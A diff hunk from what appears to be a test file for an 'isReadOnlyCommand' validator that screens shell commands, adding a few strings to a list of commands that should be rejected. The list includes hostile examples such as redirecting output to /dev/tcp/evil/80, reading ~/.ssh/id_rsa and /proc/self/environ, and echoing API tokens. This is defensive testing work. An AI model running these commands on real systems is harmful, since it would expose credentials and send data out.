@@ -34,7 +34,7 @@ describe('isReadOnlyCommand', () => {
       'git branch --delete x', 'git branch new-branch', 'git push', 'git checkout x', 'git log --format=x -c core.pager=sh',
       'sort -o f a', 'sort -ro f a', 'sort --output=f a', 'sort --compress-program=sh a', 'uniq a b', 'tail -f log', 'tail -Fn5 log',
       'tail --follow log', 'rg --pre=sh x', 'rg --pre-glob=* x', 'date -s 2020-01-01', 'date --set=x', 'file -C -m x', 'tree -o out',
-      'printf -v PATH /tmp', 'cat x > y', 'cat x >> y', 'echo x >| y', 'ls &> out', 'ls > /dev/tcp/evil/80', 'cat < /proc/self/environ',
+      'printf -v PATH /tmp', 'tree -R', 'LC_ALL=./evil ls', 'TERM=../x ls', 'cat x > y', 'cat x >> y', 'echo x >| y', 'ls &> out', 'ls > /dev/tcp/evil/80', 'cat < /proc/self/environ',
       'cat /proc/self/environ', 'cat ~/.ssh/id_rsa', 'cat ../x', 'cat /etc/passwd', 'grep -f /proc/self/environ x', 'grep --file=/etc/x y',
       'cat $SECRET_FILE', 'echo $GITHUB_TOKEN', 'echo "${ANTHROPIC_API_KEY}"', 'cat {/proc/self/environ,x}', 'cat .*/x',
       'cat $(echo /etc/passwd)', 'GIT_PAGER=sh git log', 'LD_PRELOAD=x ls', 'PATH=/tmp ls', 'X=1', 'env', 'printenv', 'xargs ls',
